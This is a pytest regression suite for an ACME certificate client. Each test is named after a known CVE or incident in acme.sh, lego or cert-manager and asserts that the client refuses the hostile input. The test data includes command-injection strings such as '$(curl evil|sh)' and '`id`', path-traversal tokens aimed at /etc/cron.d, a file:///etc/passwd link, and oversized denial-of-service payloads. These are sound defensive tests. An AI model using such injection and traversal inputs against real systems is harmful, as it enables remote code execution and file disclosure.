"""What happened to other clients must not happen to this one: one test for each incident that is known."""

from __future__ import annotations

import json
from datetime import timedelta
from typing import Any

import pytest

from evercert.acme.challenge import http_path
from evercert.acme.flows.authorization import authorization
from evercert.acme.flows.certificate import chains
from evercert.acme.flows.order import await_order, new_order, order
from evercert.acme.problem import ProblemType
from evercert.acme.session import Session
from evercert.acme.wire import Order
from evercert.base.errors import EvercertError, NetworkFailure, Retry
from evercert.base.message import DEFAULT_MAX_BODY, Request
from evercert.base.names import Identifier
from tests.acme import play as said
from tests.acme.play import CA, DIRECTORY, StubSigner, fails, play, post, refuse, reply, returns, session

URL = f"{CA}/authz/1"
NAME = Identifier("dns", "example.com")
IDENTIFIER = {"type": "dns", "value": "example.com"}
ORDER = {"status": "valid", "identifiers": [IDENTIFIER], "finalize": f"{CA}/f", "certificate": f"{CA}/c"}
SHELL = ["$(curl evil|sh)", "`id`", "a;id", "a\nid", "|id", "-rf"]


def authorization_with(**challenge: object) -> dict[str, object]:
    sent = {"type": "http-01", "url": f"{CA}/chall/1", "status": "pending", **challenge}
    return {"identifier": IDENTIFIER, "status": "pending", "challenges": [sent]}


@pytest.mark.parametrize("token", SHELL[:-1])
def test_acme_sh_cve_2023_38198_challenge_data_never_reaches_a_shell(token: str) -> None:
    play(authorization(session(), URL)) << post(URL) >> reply(authorization_with(token=token)) << fails("bad-answer")


@pytest.mark.parametrize("url", ["https://ca.example/`id`", 'https://ca.example/";id', "https://ca.example/a b"])
def test_acme_sh_cve_2023_38198_nor_do_challenge_urls(url: str) -> None:
    sent = reply(authorization_with(token="t0ken", url=url))
    play(authorization(session(), URL)) << post(URL) >> sent << fails("bad-answer")


@pytest.mark.parametrize("token", ["../../../etc/cron.d/x", "..", "a/../b", "..\\..", ".htaccess"])
def test_lego_cve_2026_40611_a_token_never_leaves_the_webroot(token: str) -> None:
    play(authorization(session(), URL)) << post(URL) >> reply(authorization_with(token=token)) << fails("bad-answer")
    with pytest.raises(EvercertError):
        http_path(token)


def test_lego_cve_2025_54799_an_http_directory_is_refused() -> None:
    with pytest.raises(EvercertError, match="not https"):
        Session("http://acme-v02.api.letsencrypt.org/directory", StubSigner())


@pytest.mark.parametrize("name", ["newNonce", "newOrder", "revokeCert", "renewalInfo"])
def test_lego_cve_2025_54799_nor_does_an_https_directory_lead_to_http(name: str) -> None:
    address: dict[str, Any] = {name: "http://ca.example/x"}
    with pytest.raises(EvercertError, match="not https"):
        session(**address)


def test_cert_manager_cve_2024_12401_a_chain_that_is_slow_to_parse_is_refused_at_once() -> None:
    slow = b"-----BEGIN CERTIFICATE-----\n" * 30_000
    known = Order(**{**_parsed(), "url": f"{CA}/order/1"})
    play(chains(session(), known)) << post(f"{CA}/c") >> reply(slow) << fails("bad-certificate")


def _parsed() -> dict[str, Any]:
    return {**ORDER, "identifiers": (NAME,)}


def test_cert_manager_5867_a_429_does_not_brick_the_order() -> None:
    failure = fails("rate-limited", ProblemType.RATE_LIMITED)
    limited = refuse(ProblemType.RATE_LIMITED, "too many", retry_after="600")
    play(order(session(), f"{CA}/order/1")) << post(f"{CA}/order/1") >> limited << failure
    assert (failure.found[0].retry, failure.found[0].after) == (Retry.LATER, timedelta(minutes=10))


def test_a_million_authorizations_are_refused() -> None:
    huge = ORDER | {"status": "pending", "authorizations": [f"{CA}/a"] * 1_000_000}
    asked = play(new_order(session(), [NAME])) << post(DIRECTORY["newOrder"])
    asked >> reply(huge, 201, location="/order/1") << fails("bad-answer")


def test_a_certificate_of_a_gigabyte_is_not_asked_for() -> None:
    asked: list[Request] = []

    class Bounded(said.Post):
        def check(self, step: object) -> None:
            super().check(step)  # type: ignore[arg-type]
            asked.append(step)  # type: ignore[arg-type]

    known = Order(**{**_parsed(), "url": f"{CA}/order/1"})
    failure = NetworkFailure("too-large", "more than 1 MiB")
    play(chains(session(), known)) << Bounded(f"{CA}/c") >> failure << fails("too-large")
    assert asked[0].max_body == DEFAULT_MAX_BODY == 1 << 20


def test_redirects_have_an_end() -> None:
    from evercert.acme.exchange import directory

    conversation = play(directory(Session(f"{CA}/directory", StubSigner()))) << said.get(f"{CA}/directory")
    for number in range(5):
        conversation = conversation >> reply(b"", 302, location=f"/{number}") << said.get(f"{CA}/{number}")
    conversation >> reply(b"", 302, location="/more") << fails("bad-answer", words="without end")


def test_retry_after_in_the_year_9999_holds_no_worker() -> None:
    failure = fails("wait-exceeded")
    sent = reply(ORDER | {"status": "processing"}, retry_after="Fri, 31 Dec 9999 23:59:59 GMT")
    play(await_order(session(), f"{CA}/order/1", 600.0)) << post(f"{CA}/order/1") >> sent << failure
    assert failure.found[0].after == timedelta(days=7)


def test_an_alternate_link_to_a_file_is_not_followed() -> None:
    from tests.acme.flows.test_certificate import PEM

    known = Order(**{**_parsed(), "url": f"{CA}/order/1"})
    sent = reply(PEM, link='<file:///etc/passwd>;rel="alternate"')
    asked = play(chains(session(), known, alternates=True)) << post(f"{CA}/c") >> sent
    asked << returns(lambda found: len(found) == 1)


def test_another_origin_is_gone_to_by_https_alone() -> None:
    elsewhere = ORDER | {"certificate": "http://cdn.example/c"}
    asked = play(order(session(), f"{CA}/order/1")) << post(f"{CA}/order/1")
    asked >> reply(elsewhere) << fails("bad-answer", words="not https")
    fine = ORDER | {"certificate": "https://cdn.example/c"}
    play(order(session(), f"{CA}/order/1")) << post(f"{CA}/order/1") >> reply(fine) << returns()


def test_lego_2474_a_replacement_that_is_taken_is_told_by_type_and_not_by_text() -> None:
    for sent in (refuse(ProblemType.ALREADY_REPLACED), refuse(ProblemType.CONFLICT, "already has a replacement")):
        failure = fails("acme")
        play(new_order(session(), [NAME], replaces="a.b")) << post(DIRECTORY["newOrder"]) >> sent << failure
        assert failure.found[0].status == 409  # type: ignore[attr-defined]


def test_aws_acm_an_order_without_authorizations_is_ready_as_it_is() -> None:
    ready = ORDER | {"status": "ready", "authorizations": []}
    asked = play(new_order(session(), [NAME])) << post(DIRECTORY["newOrder"])
    asked >> reply(ready, 201, location="/order/1") << returns(lambda known: known.status == "ready")


def test_acme_sh_bad_nonces_are_told_by_type_and_not_by_english_text() -> None:
    german = json.dumps({"type": ProblemType.BAD_NONCE.urn, "detail": "Nonce abgelaufen"}).encode()
    asked = play(order(session(), f"{CA}/order/1")) << post(f"{CA}/order/1") >> reply(german, 400)
    asked << post(f"{CA}/order/1") >> reply(ORDER) << returns()
